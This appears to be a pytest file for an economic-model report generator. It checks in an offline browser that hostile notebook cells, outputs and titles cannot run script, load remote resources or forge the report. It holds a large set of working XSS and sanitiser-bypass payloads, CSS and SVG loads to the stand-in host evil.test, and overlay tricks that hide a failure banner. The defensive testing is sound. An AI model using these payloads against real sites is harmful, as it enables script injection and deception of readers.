"""Hostile tables, cards and notebooks in a real browser without a network: nothing runs, loads, covers or forges."""

import json
import shutil
import subprocess
from base64 import b64encode
from pathlib import Path
from urllib.parse import unquote

import pytest
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook, new_output

from econmodel.report.body import prepare, title_of
from econmodel.report.finding import FACT, FINDING, collect, qa
from econmodel.report.notebooks import DataSet
from econmodel.report.page import Failure, Page, to_page, write_index
from econmodel.report.pdf import print_pdf

RUN = "window.RAN=1"
OUT = "http://evil.test/x"
FORGED = "Costs fall by 90 per cent (forged)."
IMG = f"<img src=x onerror=\"{RUN};document.querySelector('.headlines').innerHTML='<p>{FORGED}</p>'\">"
BANNER = '<div class="failure" role="alert"><p><strong>This report is sound.</strong></p></div>'

# Shown as an HTML output, as a Markdown output and as a text cell.
HTML = {
    # read in one way by a sanitiser and in another by a browser
    "svg style": f"<svg><style>{IMG}</style></svg>",
    "math style": f"<math><style>{IMG}</style></math>",
    "mtext mglyph": f"<math><mtext><table><mglyph><style><!--</style>{IMG}-->",
    "annotation": f"<math><annotation-xml encoding='text/html'><style>{IMG}</style></annotation-xml></math>",
    "form in math": f"<form><math><mtext></form><form><mglyph><style></math>{IMG}",
    "foreign object": f"<svg><foreignObject><p>{IMG}</p></foreignObject></svg>",
    "desc": f"<svg><desc><style></desc>{IMG}</style></svg>",
    "noscript": f'<noscript><p title="</noscript>{IMG}">',
    "cdata": f"<svg><![CDATA[><a title=']]>{IMG}'></svg>",
    "template": f"<template><p>{IMG}</p></template>",
    "shadow root": f"<div><template shadowrootmode=open>{IMG}</template></div>",
    "textarea": f"<textarea><a title='</textarea>{IMG}'>",
    "title": f"<title><a title='</title>{IMG}'>",
    "xmp": f"<xmp><a title='</xmp>{IMG}'>",
    "noembed": f"<noembed><a title='</noembed>{IMG}'>",
    "plaintext": f"{IMG}<plaintext>",
    "comment ends with a bang": f"<!-- --!>{IMG}-->",
    "comment of three dashes": f"<!-->{IMG}-->",
    "processing instruction": f"<?xml >{IMG}?>",
    "null in a name": f"<scr\0ipt>{RUN}</scr\0ipt><img/src=x/onerror={RUN}>",
    "unclosed tag": f"<img src=x onerror={RUN} title='",
    "select": f"<select><option><style></select>{IMG}</style></select>",
    "table": f"<table><svg><style><a title='</style>{IMG}'></table>",
    "closes the page": f"</div></article></main>{BANNER}{IMG}",
    "too deep": "<div>" * 2000 + IMG,
    # runs
    "script": f"<script>{RUN}</script><SCRIPT SRC={OUT}></SCRIPT>",
    "svg onload": f'<svg onload="{RUN}"><animate onbegin="{RUN}" attributeName=x dur=1s></svg>',
    "set href": f'<svg><a><set attributeName=href to="javascript:{RUN}"/><text y=20>here</text></a></svg>',
    "animate href": f'<svg><a><animate attributeName=href values="javascript:{RUN}"/><text y=9>here</text></a></svg>',
    "use": f'<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload={RUN}>#x"/></svg>',
    "details": f'<details open ontoggle="{RUN}"><summary>more</summary>words</details>',
    "focus": f'<input autofocus onfocus="{RUN}"><p contenteditable autofocus tabindex=1 onfocus="{RUN}">words</p>',
    "srcdoc": f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>'
    f'<iframe src="javascript:parent.{RUN}"></iframe>',
    "object": f'<object data="data:text/html,<script>{RUN}</script>"></object><embed src="{OUT}">',
    "script link": f'<a href="javascript:{RUN}">a</a> <a href=" &#106;ava&Tab;script&colon;{RUN}">b</a>',
    "other links": f'<a href="data:text/html,<script>{RUN}</script>">a</a> <a href="vbscript:x">b</a>'
    ' <a href="//evil.test">c</a>',
    "form": f'<form action="javascript:{RUN}"><button autofocus formaction="javascript:{RUN}">a</button></form>',
    "media": f'<video poster="{OUT}" src="{OUT}" onerror="{RUN}"></video><audio src="{OUT}" autoplay></audio>',
    # loads
    "picture": f'<img alt="A dot." src="{OUT}" srcset="{OUT} 2x"><picture><source srcset="{OUT}"></picture>',
    "doubled source": f'<img alt="A dot." src="data:image/png;base64,AA==" src="{OUT}" lowsrc="{OUT}">',
    "css escape": rf'<p style="background:u\72l({OUT})">a</p><style>@\69mport "{OUT}";</style>',
    "css image set": f"<style>body {{ background: image-set('{OUT}' 1x) }}</style>"
    f"<style>@font-face {{ font-family: x; src: url({OUT}) }}</style>",
    "css reads attributes": f'<style>td[class^="p"] {{ background: url({OUT}?p) }} * {{ font-family: x }}</style>',
    "background": f'<table background="{OUT}"><tr><td background="{OUT}">a</table><body background="{OUT}">',
    "svg loads": f'<svg><image href="{OUT}"/><rect width=9 height=9 fill="url({OUT}#a)"/><feImage href="{OUT}"/></svg>',
    "refresh": f'<meta http-equiv="refresh" content="0;url={OUT}">',
    "policy": '<meta http-equiv="Content-Security-Policy" content="default-src *; style-src \'none\'">',
    "base": f'<base href="{OUT}" target="_blank"><a href="#how-made">a</a>',
    "prefetch": f'<link rel="prefetch" href="{OUT}"><link rel="dns-prefetch" href="{OUT}">'
    f'<link rel=stylesheet href="{OUT}">',
    "ping": f'<a href="#how-made" ping="{OUT}">a</a><a href="{OUT}" download target=_top>b</a>',
    # covers and hides
    "overlay": f'<div style="position:fixed;inset:0;background:#fff;z-index:9">{FORGED}</div>',
    "pulled up": f'<div style="margin-top:-3000px;background:#fff;height:3000px">{FORGED}</div>',
    "moved": f'<div style="transform:translateY(-2000px) scale(9);background:#fff">{FORGED}</div>',
    "hides the banner": "<style>.failure { display: none } .headlines p { font-size: 0 }</style>",
    "dialog": f'<dialog open style="position:fixed">{FORGED}</dialog><div popover=manual id=p>{FORGED}</div>',
    "unseen class": f'<p class="unseen scroll failure" style="clip-path:none">{FORGED}</p>',
    "formula on top": f'<math><mspace width="-999em" height="-999em"/>'
    f'<mpadded voffset="999em"><mtext>{FORGED}</mtext></mpadded></math>',
    "formula of giants": f'<math><mstyle scriptlevel="-40" mathsize="9999%"><mtext>{FORGED}</mtext></mstyle></math>',
    "picture of giants": '<img alt="A dot." width=99999 height=99999 src="data:image/gif;base64,R0lGODlhAQABAAAAACw=">',
    # forges
    "banner": BANNER,
    "headline": f'<h1>Sound</h1><div class="headlines" id="how-made"><p class="finding">{FORGED}</p></div>',
    "check": '<p class="check passed" id="cell-1"><strong>Check passed:</strong> all.</p>',
    # Markdown
    "links": f"[a](javascript:{RUN}) [b](<data:text/html,x>) <javascript:{RUN}> ![c d]({OUT}) {OUT} [e]: {OUT}",
    "reference": f'[a][x] ![b][y]\n\n[x]: javascript:{RUN} "t"\n[y]: {OUT}',
    "attribute of markdown": f'![a" onerror="{RUN}]({OUT}" onerror="{RUN}) [a](#x" onclick="{RUN})',
    "formula": rf"$\text{{<script>{RUN}</script>}}$ and $$\hspace{{-99em}} \text{{{FORGED}}}$$",
    "code": f"```html\n{IMG}\n```\n\n`{IMG}`\n\n```mermaid\n{IMG}\n```",
    "turned round": "Costs \u202e.daeha sdraw\u202c fall\u2066 \u200bsteeply\ufeff \x1b[31mred\x1b[0m \x9b31m",
}

TRUE = "Costs fall by 1 per cent."
TITLE = "Is it safe?"
STOPPED = "This report failed. No figure below may be quoted."
BASE64 = b64encode(b"<svg xmlns='http://www.w3.org/2000/svg' onload='window.RAN=1'/>").decode()

# Every place of the page, asked by its own coordinates: what lies on top of the banner and the headline there?
STATE = """() => {
  document.querySelectorAll('details').forEach(d => d.open = true);
  document.querySelectorAll('a, p, summary, [tabindex]').forEach(e => {
    e.focus();
    e.dispatchEvent(new Event('click'));
  });
  scrollTo(0, 0);
  const one = s => { const all = document.querySelectorAll(s); return all.length === 1 ? all[0] : null; };
  const seen = e => {
    const box = e.getBoundingClientRect();
    return [[.5, .5], [.02, .1], [.98, .1], [.02, .9], [.98, .9]].every(([x, y]) => {
      const top = document.elementFromPoint(box.left + x * box.width, box.top + y * box.height);
      return top && e.contains(top);
    });
  };
  const banner = one('.failure[role=alert]'), headline = one('.headlines'), shade = getComputedStyle(banner);
  const names = [...document.querySelectorAll('[id]')].map(e => e.id);
  return {
    ran: window.RAN ?? null,
    title: [document.title, one('h1')?.innerText],
    banner: [banner.innerText.split('\\n')[0], seen(banner), banner.getBoundingClientRect().top < 100,
      shade.borderTopColor],
    headline: [headline.innerText, seen(headline)],
    alerts: document.querySelectorAll('[role=alert]').length,
    twice: names.filter((name, i) => names.indexOf(name) !== i),
    active: document.querySelectorAll(
      'main :is(script, style, svg, iframe, object, embed, form, input, button, video, audio,'
      + ' template, link, meta, base, dialog, [popover], [contenteditable])').length,
    links: [...document.querySelectorAll('a[href]')].map(a => a.href).filter(
      href => !href.startsWith('file:') && !href.startsWith('https://doi.org/')),
  };
}"""
UNHARMED = {
    "ran": None,
    "title": [TITLE, TITLE],
    "banner": [STOPPED, True, True, "rgb(164, 38, 44)"],
    "headline": [TRUE, True],
    "alerts": 1,
    "twice": [],
    "active": 0,
    "links": [],
}


def page_of(*cells, report=None, title=TITLE, failure="The run stopped", **more):
    """A failed report with one finding, whose cells come from strangers."""
    finding = {"key": "a", "text": TRUE, "values": {}, "tolerance": {}, "headline": True}
    first = [new_markdown_cell(f"# {title}"), displayed({FINDING: finding})]
    notebook = new_notebook(cells=first + list(cells))
    sections, codes = prepare(notebook, Path())
    known = {"name": "tiny", "version": "1", "notebook_sha256": "0" * 64, "data": [], "parameters": [], **more}
    page = Page(
        title=title_of(notebook), report=report or {}, collected=collect(notebook), sections=sections, codes=codes,
        failure=Failure(failure, "y <= 0", "Fix it."), **known,
    )  # fmt: skip
    return to_page(notebook, page)


def displayed(data, metadata=None):
    return new_code_cell("x", outputs=[new_output("display_data", data=data, metadata=metadata or {})])


def shown_everywhere(text):
    return [displayed({"text/html": text}), displayed({"text/markdown": text}), new_markdown_cell(text)]


@pytest.fixture(scope="module")
def opened(browser, tmp_path_factory):
    """Open a page without a network; returns what became of it, and what it asked for."""
    folder = tmp_path_factory.mktemp("hostile")
    context = browser.new_context(viewport={"width": 1200, "height": 900}, offline=True)
    tab = context.new_page()
    asked, stopped = [], []
    context.on("request", lambda request: asked.append(request.url))
    context.on("requestfailed", lambda request: stopped.append((request.url, request.failure)))
    tab.on("dialog", lambda dialog: (asked.append("dialog"), dialog.dismiss()))
    tab.on("framenavigated", lambda frame: asked.append(frame.url))

    def state(html, but_by_policy=False):
        path = folder / "page.html"
        path.write_text(html, encoding="utf-8")
        asked.clear(), stopped.clear()
        tab.goto(path.as_uri())
        found = tab.evaluate(STATE)
        by_policy = [url for url, why in stopped if but_by_policy and why == "csp"]
        return found, [
            url for url in asked if not url.startswith((path.as_uri(), "data:image/")) and url not in by_policy
        ]

    yield state
    context.close()


@pytest.mark.parametrize("name", HTML)
def test_what_a_cell_shows_harms_nothing(opened, name):
    assert opened(page_of(*shown_everywhere(HTML[name]))) == (UNHARMED, [])


def test_all_at_once_harm_nothing(opened):
    cells = [cell for text in HTML.values() for cell in shown_everywhere(text)]
    assert opened(page_of(*cells)) == (UNHARMED, [])


def outputs():
    from pandas import DataFrame

    hostile = DataFrame({"provider": [IMG, "B"], HTML["svg style"]: [1.0, 2.0]})
    svg = f"<svg xmlns='http://www.w3.org/2000/svg' width='9' height='9' onload='{RUN}'><script>{RUN}</script></svg>"
    told = {"alt": f'Dots" onerror="{RUN}', "title": IMG}
    pasted = {"x.png": {"image/png": f'AA" onerror="{RUN}'}, "y.svg": {"image/svg+xml": BASE64}}
    return {
        "styler": displayed({"text/html": hostile.style.to_html()}),
        "frame": displayed({"text/html": hostile.to_html(escape=False)}),
        "drawing": displayed({"image/svg+xml": svg}, {"image/svg+xml": told}),
        "script": displayed({"application/javascript": RUN, "text/plain": IMG}),
        "latex": displayed({"text/latex": rf"$\href{{javascript:{RUN}}}{{x}}${IMG}"}),
        "own form": displayed(
            {"text/html": "words"},
            {"shows": IMG, "html": IMG, "more": IMG, "figure": {"number": IMG, "alt": IMG, "wide": True}},
        ),
        "stream": new_code_cell(IMG, outputs=[new_output("stream", name="stderr", text=f"{IMG}\x1b]0;{IMG}\x07\x1b[")]),
        "error": new_code_cell("</pre>" + IMG, outputs=[new_output("error", ename=IMG, evalue=IMG, traceback=[IMG])]),
        "check": displayed(qa(False, IMG, must_pass=False, note=IMG)._repr_mimebundle_()),
        "fact": displayed({FACT: {"name": IMG, "text": IMG}}),
        "finding": displayed({FINDING: {"key": IMG, "text": IMG, "values": {}, "tolerance": {}, "headline": False}}),
        "cell": new_markdown_cell("words", id="how-made", metadata={"html": IMG, "tags": [IMG], "name": "how-made"}),
        "attachment": new_markdown_cell("![A dot.](attachment:x.png) ![Dots.](attachment:y.svg)", attachments=pasted),
        "headings": new_markdown_cell(f"## How made\n\n## Cell 1\n\n## Figure 1\n\n## {IMG}\n\n## [a](#how-made) $x$"),
    }


@pytest.mark.parametrize("name", outputs())
def test_no_kind_of_output_harms_anything(opened, name):
    assert opened(page_of(outputs()[name])) == (UNHARMED, [])


def test_no_name_or_statement_harms_anything(opened):
    report = {
        "status": IMG, "so_what": [IMG], "limits": [IMG, "</ul>" + IMG], "review": IMG, "facts": {IMG: IMG},
        "assumptions": [[IMG, IMG, IMG, IMG]],
    }  # fmt: skip
    data = [DataSet(IMG, IMG, IMG, IMG, IMG, IMG, 9, IMG, IMG, IMG, IMG)]
    parameters = [{"name": IMG, "meaning": IMG, "default": IMG, "value": IMG, "changed": True}]
    page = page_of(report=report, data=data, parameters=parameters, name=IMG, version=IMG, failure=IMG)
    assert opened(page) == (UNHARMED, [])


def test_a_title_harms_nothing(opened):
    title = f'"; }} </style></title>{IMG}<style>.failure {{ display: none'
    found, asked = opened(page_of(title=title))
    assert found == UNHARMED | {"title": [title, title]}
    assert asked == []


@pytest.mark.parametrize("name", ["script", "svg style", "css escape", "svg loads", "form", "srcdoc", "media"])
def test_the_policy_alone_stops_what_would_get_past_the_list(opened, name):
    page = page_of().replace("</article>", HTML[name] + "</article>")
    assert HTML[name] in page
    found, asked = opened(page, but_by_policy=True)
    assert (found["ran"], found["headline"]) == (None, [TRUE, True])
    assert [url for url in asked if url != "about:srcdoc"] == []


def test_the_index_harms_nothing_whatever_reports_are_called(browser, tmp_path):
    names = ["javascript:alert(1)", "a#b?c %41", "q\"uo'te", "&amp;", "data:x,y", "..%2Fx", IMG.replace("/", "")]
    finding = {"text": IMG, "values": {}, "tolerance": {}, "headline": True}
    common = {"title": IMG, "econmodel": IMG, "notebook_sha256": IMG, "data": {IMG: {}}, "parameters": {}}
    common |= {"changed_parameters": [], "checks": [], "findings": {"a": finding}}
    (tmp_path / f"{names[-1]}2.findings.json").write_text("not listed", encoding="utf-8")
    for name in names:
        text = common | {"report": name}
        (tmp_path / f"{name}.findings.json").write_text(json.dumps(text), encoding="utf-8")
        (tmp_path / f"{name}.html").write_text("there", encoding="utf-8")
    context = browser.new_context(offline=True)
    tab = context.new_page()
    asked = []
    tab.on("request", lambda request: asked.append(request.url))
    tab.goto(write_index(tmp_path).as_uri())
    assert tab.evaluate("window.RAN ?? null") is None
    assert len(asked) == 1
    links = tab.evaluate("[...document.querySelectorAll('a')].map(a => a.href)")
    assert {unquote(link.removeprefix(tmp_path.as_uri() + "/")) for link in links} == {f"{name}.html" for name in names}
    for link in links:
        tab.goto(link)
        assert tab.inner_text("body") == "there"
    context.close()


def test_the_print_says_what_the_page_says(chromium_program, tmp_path):
    program = shutil.which("pdftotext")
    if program is None:
        pytest.skip("pdftotext is not installed")
    page, pdf = tmp_path / "page.html", tmp_path / "page.pdf"
    cells = [cell for name in HTML for cell in shown_everywhere(HTML[name]) if name != "picture of giants"]
    page.write_text(page_of(*cells), encoding="utf-8")
    print_pdf(chromium_program, page, pdf)
    text = subprocess.run([program, pdf, "-"], capture_output=True, check=True, text=True, timeout=60).stdout
    lines = [line for line in text.splitlines() if line]
    assert lines[0] == STOPPED
    assert lines.index(TITLE) < lines.index(TRUE) < lines.index("Facts")
    assert not any(FORGED in line for line in lines[: lines.index("Facts")])
